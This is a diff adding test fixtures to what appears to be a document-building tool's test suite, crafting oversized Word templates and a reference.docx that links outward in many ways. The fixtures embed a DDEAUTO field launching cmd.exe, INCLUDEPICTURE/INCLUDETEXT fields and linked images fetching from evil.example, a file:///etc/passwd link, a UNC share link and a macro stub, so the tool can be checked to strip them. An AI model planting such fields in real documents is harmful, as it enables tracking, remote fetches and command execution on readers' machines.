@@ -247,3 +247,169 @@ BOMBS: dict[str, Callable[[Path], Path]] = {
     "pdf 2M operators": pdf_operator_bomb, "pdf /Length loop": pdf_self_length,
     "/dev/zero": dev_zero, "fifo": fifo, "2 GB text source": huge_text,
 }
+
+
+# --- Templates ----------------------------------------------------------------------------
+
+MEMO_REFERENCE = Path(__file__).resolve().parents[1] / "src/brief/templates/memo/reference.docx"
+
+
+def template_spec(folder: Path, name: str, parts: dict[str, bytes]) -> Path:
+    """A project whose spec uses the house template `name`, its reference.docx of
+    `parts`."""
+    import io
+    import zipfile
+
+    house = folder / "templates" / name
+    house.mkdir(parents=True, exist_ok=True)
+    (house / "template.yaml").write_text(f"name: {name}\n", encoding="utf-8")
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
+        for part, content in parts.items():
+            package.writestr(part, content)
+    (house / "reference.docx").write_bytes(out.getvalue())
+    (folder / "sources").mkdir(exist_ok=True)
+    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
+    spec = spec_for(folder, "sources/a.txt")
+    spec.write_text(f"template: {name}\n" + spec.read_text(encoding="utf-8"), encoding="utf-8")
+    return spec
+
+
+def memo_reference_parts() -> dict[str, bytes]:
+    """The parts of the built-in memo's reference.docx."""
+    import zipfile
+
+    with zipfile.ZipFile(MEMO_REFERENCE) as package:
+        return {info.filename: package.read(info) for info in package.infolist()}
+
+
+_W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def template_numbering_bomb(folder: Path, count: int = 200_000) -> Path:
+    """A house template whose reference.docx (1.6 MB) holds `count` numbering definitions
+    (an abstractNum and a num each): 48 MB of numbering.xml."""
+    parts = memo_reference_parts()
+    lists = b"".join(b'<w:abstractNum w:abstractNumId="%d"><w:lvl w:ilvl="0"><w:start '
+                     b'w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%%1."/>'
+                     b'<w:lvlJc w:val="left"/></w:lvl></w:abstractNum>' % i
+                     for i in range(count))
+    lists += b"".join(b'<w:num w:numId="%d"><w:abstractNumId w:val="%d"/></w:num>' % (i + 1, i)
+                      for i in range(count))
+    parts["word/numbering.xml"] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                                   b"<w:numbering " + _W_NS + b">" + lists + b"</w:numbering>")
+    return template_spec(folder, "lists", parts)
+
+
+def template_styles_bomb(folder: Path, count: int = 100_000) -> Path:
+    """A house template whose reference.docx holds `count` paragraph styles."""
+    parts = memo_reference_parts()
+    styles = b"".join(b'<w:style w:type="paragraph" w:styleId="S%d"><w:name w:val="S %d"/>'
+                      b'<w:basedOn w:val="Normal"/><w:rPr><w:b/></w:rPr></w:style>' % (i, i)
+                      for i in range(count))
+    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"</w:styles>",
+                                                                styles + b"</w:styles>")
+    return template_spec(folder, "styles", parts)
+
+
+# What the template of outside links points at: none may reach a memo.
+OUTSIDE_TARGETS = ("http://evil.example/evil.dotm", "http://evil.example/frame.html",
+                   "http://evil.example/sub.docx", "http://evil.example/pixel.png",
+                   "http://evil.example/text.docx", "file:///etc/passwd",
+                   "http://evil.example/logo.png", "http://evil.example/linked.png",
+                   "\\\\evil.example\\share\\x.docx", "http://evil.example/styles",
+                   "cmd.exe", "vbaProject")
+HOUSE_SITE = "https://house.example/"  # the house's website in its footer: kept
+_RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+_OFFICE_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relationships_part(*relationships: tuple[str, str, str]) -> bytes:
+    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + _RELS_NS
+            + b"".join(f'<Relationship Id="{i}" Type="{_OFFICE_R.decode()}/{t}" Target="{x}" '
+                       'TargetMode="External"/>'.encode() for i, t, x in relationships)
+            + b"</Relationships>")
+
+
+_LINKED_DRAWING = (
+    '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="7" '
+    'name="Linked"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
+    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
+    '<pic:cNvPr id="0" name="linked.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
+    '<a:blip r:link="rIdLinked"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
+    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom '
+    'prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
+    '</wp:inline></w:drawing></w:r>')
+_HEADER_LINKS = (
+    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; '
+    '\\d "><w:r><w:t>picture</w:t></w:r></w:fldSimple>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+    'INCLUDETEXT "http://evil.example/</w:instrText></w:r><w:r><w:instrText>text.docx" '
+    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>included'
+    '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:hyperlink r:id="rIdPasswd"><w:r><w:t>Passwords</w:t></w:r></w:hyperlink>'
+    '<w:r><w:pict><v:shape id="evil" style="width:20pt;height:20pt"><v:imagedata '
+    'r:href="rIdLogo" o:href="http://evil.example/logo.png"/></v:shape></w:pict></w:r>'
+    + _LINKED_DRAWING + '</w:p>')
+_FOOTER_LINKS = (
+    '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>house.example</w:t></w:r></w:hyperlink>'
+    '<w:r><w:t xml:space="preserve"> </w:t></w:r>'
+    '<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'>'
+    '<w:r><w:t>dde</w:t></w:r></w:fldSimple>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+    'HYPERLINK "\\\\evil.example\\share\\x.docx" </w:instrText></w:r><w:r><w:fldChar '
+    'w:fldCharType="separate"/></w:r><w:r><w:t>share</w:t></w:r><w:r><w:fldChar '
+    'w:fldCharType="end"/></w:r></w:p>')
+
+
+def _before_end(xml: bytes, tag: bytes, insert: str) -> bytes:
+    return xml.replace(b"</" + tag + b">", insert.encode() + b"</" + tag + b">")
+
+
+def template_outside_links(folder: Path) -> Path:
+    """A house template whose reference.docx reaches outside itself every way Word knows:
+    an attached template on the web, an external frame, a subdocument, fields that fetch
+    a picture and a text, a DDE field that runs a program, a link to /etc/passwd and one
+    to a share, linked pictures (VML and DrawingML), an outside relationship of the
+    styles, and macros; and a link to the house's website, which is kept."""
+    parts = memo_reference_parts()
+    settings = parts["word/settings.xml"]
+    parts["word/settings.xml"] = settings.replace(b"<w:zoom ", b'<w:attachedTemplate '
+                                                  b'r:id="rIdTemplate"/><w:zoom ', 1)
+    parts["word/_rels/settings.xml.rels"] = relationships_part(
+        ("rIdTemplate", "attachedTemplate", "http://evil.example/evil.dotm"))
+    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
+        b"<w:allowPNG/>", b'<w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName '
+        b'r:id="rIdFrame"/></w:frame></w:frameset><w:allowPNG/>')
+    parts["word/_rels/webSettings.xml.rels"] = relationships_part(
+        ("rIdFrame", "frame", "http://evil.example/frame.html"))
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"<w:body>", b'<w:body><w:p><w:subDoc r:id="rIdSub"/></w:p>', 1)
+    parts["word/_rels/document.xml.rels"] = _before_end(
+        parts["word/_rels/document.xml.rels"], b"Relationships",
+        '<Relationship Id="rIdSub" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/subDocument" Target="http://evil.example/sub.docx" '
+        'TargetMode="External"/><Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
+        'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>')
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros that would run"
+    parts["[Content_Types].xml"] = _before_end(
+        parts["[Content_Types].xml"], b"Types",
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+    ).replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
+              b"+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")
+    parts["word/header1.xml"] = _before_end(parts["word/header1.xml"], b"w:hdr", _HEADER_LINKS)
+    parts["word/_rels/header1.xml.rels"] = relationships_part(
+        ("rIdPasswd", "hyperlink", "file:///etc/passwd"),
+        ("rIdLogo", "image", "http://evil.example/logo.png"),
+        ("rIdLinked", "image", "http://evil.example/linked.png"))
+    parts["word/footer1.xml"] = _before_end(parts["word/footer1.xml"], b"w:ftr", _FOOTER_LINKS)
+    parts["word/_rels/footer1.xml.rels"] = relationships_part(("rIdSite", "hyperlink", HOUSE_SITE))
+    parts["word/_rels/styles.xml.rels"] = relationships_part(("rIdStyles", "image",
+                                                 "http://evil.example/styles"))
+    return template_spec(folder, "outside", parts)
+
+
+BOMBS |= {"template: 200,000 lists": template_numbering_bomb,
+          "template: 100,000 styles": template_styles_bomb,
+          "template: outside links": template_outside_links}
